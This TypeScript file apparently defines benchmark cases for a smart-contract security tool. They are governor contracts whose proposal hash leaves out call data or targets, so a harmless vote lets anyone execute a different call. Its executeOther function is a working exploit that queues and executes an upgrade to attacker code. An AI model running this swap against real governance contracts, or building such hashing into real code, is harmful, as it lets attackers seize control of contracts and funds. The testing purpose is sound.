/** Governors whose number of a proposal says less than what is called after a vote for it. */
import { type Hex, keccak256, stringToHex } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import { type Built, type Chain, callData } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { controlledBy, part, voting } from './lying-getters.ts'
import { NEW_EVM } from './second-writers.ts'

const NOTE = keccak256(stringToHex('note'))
const OWNER_CALL = '0x8da5cb5b'
const QUEUE = 'queue(address[],uint256[],bytes[],bytes32)'
const EXECUTE = 'execute(address[],uint256[],bytes[],bytes32)'

type CallsOf = (built: Built) => readonly unknown[]

/** The holders voted for a harmless call; any account may queue what has the same number. */
const harmlesslyVoted =
  (name: string, callsOf: CallsOf = askOwner) =>
  async (chain: Chain): Promise<Built> => {
    const { lock, token, governor } = await voting(chain, name, () => chain.deploy('GivenVotes'))
    const built = await controlledBy(chain, lock, { token, governor, code: await chain.deploy('Taken') })
    await chain.send(token, 'delegate(address)', [chain.evm.accounts[0]])
    const calls = callsOf(built)
    await chain.send(governor, 'propose(address[],uint256[],bytes[],string)', [...calls, 'note'])
    await chain.node.rpc('anvil_mine', '0xc')
    const data = callData('hashProposal(address[],uint256[],bytes[],bytes32)', [...calls, NOTE])
    const id = await chain.node.rpc<Hex>('eth_call', { to: governor, data }, 'latest')
    await chain.send(governor, 'castVote(uint256,uint8)', [BigInt(id), 1])
    await chain.node.rpc('anvil_mine', '0x65')
    return built
  }

/** The upgrade to code of the attacker. */
const upgrade = (built: Built): Hex => upgradeCall(built.address, part(built, 'code'))

/** Queues and executes another call than was voted on. */
async function executeOther(attack: Attack, built: Built): Promise<void> {
  const other = [[part(built, 'admin')], [0n], [upgrade(built)], NOTE]
  await attack.send(part(built, 'governor'), QUEUE, other)
  await attack.wait(172_801)
  await attack.send(part(built, 'governor'), EXECUTE, other)
}

const askOwner: CallsOf = (built) => [[part(built, 'admin')], [0n], [OWNER_CALL]]
/** The token has no such function. */
const askToken: CallsOf = (built) => [[part(built, 'token')], [0n], [upgrade(built)]]

type Draft = Pick<Case, 'name' | 'build' | 'settings'>

/** Without the optimizer the code is larger than a contract may be. */
const OPTIMIZED: Case['settings'] = ['optimized', 'via IR']

const drafts: readonly Draft[] = [
  {
    name: 'the number of a proposal leaves out the data of its calls',
    build: harmlesslyVoted('DatalessGovernor'),
  },
  {
    name: 'the number of a proposal leaves out the data of its calls, and a search finds the quorum',
    settings: OPTIMIZED,
    build: harmlesslyVoted('DatalessFractionGovernor'),
  },
  {
    name: 'the number of a proposal leaves out the contracts that it calls, and a search finds the quorum',
    settings: OPTIMIZED,
    build: harmlesslyVoted('TargetlessFractionGovernor', askToken),
  },
  {
    name: 'the number of a proposal leaves out long data of its calls',
    settings: OPTIMIZED,
    build: harmlesslyVoted('ShortDataGovernor', (built) => [[part(built, 'admin')], [0n], ['0x']]),
  },
]

export const proposalNumbers: readonly Case[] = drafts.map((draft) => ({
  cause: 'lying getter',
  truth: WEAK,
  by: 'anyone',
  settings: NEW_EVM,
  exploit: executeOther,
  ...draft,
}))

export const proposalNumberTwins: readonly Twin[] = [
  {
    name: 'a governor whose quorum is found by a search',
    cause: 'lying getter',
    twinOf: 'the number of a proposal leaves out the data of its calls, and a search finds the quorum',
    deserves: 'timelocked',
    settings: OPTIMIZED,
    build: harmlesslyVoted('FractionGovernor'),
  },
]
